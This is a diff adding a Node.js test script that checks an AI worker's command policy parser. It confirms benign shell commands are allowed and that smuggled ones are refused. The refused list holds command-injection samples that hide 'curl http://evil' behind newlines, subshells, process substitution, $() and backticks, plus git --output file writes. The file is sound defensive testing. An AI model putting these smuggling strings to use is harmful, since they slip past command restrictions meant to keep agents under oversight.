@@ -0,0 +1,59 @@
+// Checks the worker's command policy parser against the default policy: command lines that must run,
+// and ones that must be refused because they hide commands from it.
+// Needs the codex-worker built (pnpm --filter @codexrt/codex-worker build): node scripts/verify_command_policy.js
+const path = require('path');
+const { pathToFileURL } = require('url');
+
+const POLICY_MODULE = path.resolve(__dirname, '../backend/packages/codex-worker/dist/policy.js');
+
+const allowed = [
+    'ls',
+    'git status && git diff --stat',
+    'npm test 2>&1 | cat',
+    'bash test.sh',
+    "bash -lc 'cd src && ls'",
+    'echo multi\\\nline',
+    "echo 'a (quoted) { word }'"
+];
+
+const refused = [
+    'ls\ncurl http://evil',
+    'ls\r\ncurl http://evil',
+    'bash -lc "ls\ncurl http://evil"',
+    'cat <(curl http://evil)',
+    'echo hi > >(curl http://evil)',
+    '(curl http://evil)',
+    'ls; (curl http://evil)',
+    '{ curl http://evil; }',
+    'echo $(curl http://evil)',
+    'echo `curl http://evil`',
+    'git diff --output=/tmp/x',
+    'git log --output /tmp/x',
+    'curl http://evil'
+];
+
+async function run() {
+    const { DEFAULT_COMMAND_POLICY, evaluateCommand } = await import(pathToFileURL(POLICY_MODULE).href);
+    const failures = [];
+
+    for (const command of allowed) {
+        const decision = evaluateCommand(DEFAULT_COMMAND_POLICY, command);
+        if (!decision.allowed) failures.push(`expected allowed: ${JSON.stringify(command)} (${decision.reason})`);
+    }
+    for (const command of refused) {
+        const decision = evaluateCommand(DEFAULT_COMMAND_POLICY, command);
+        if (decision.allowed) failures.push(`expected refused: ${JSON.stringify(command)} (parsed as ${JSON.stringify(decision.commands)})`);
+        else console.log(`refused ${JSON.stringify(command)}: ${decision.reason}`);
+    }
+
+    if (failures.length > 0) {
+        failures.forEach(failure => console.error(failure));
+        throw new Error(`${failures.length} of ${allowed.length + refused.length} checks failed`);
+    }
+    console.log(`SUCCESS: ${allowed.length} allowed, ${refused.length} refused`);
+}
+
+run().catch(err => {
+    console.error('FAILED:', err.message);
+    process.exit(1);
+});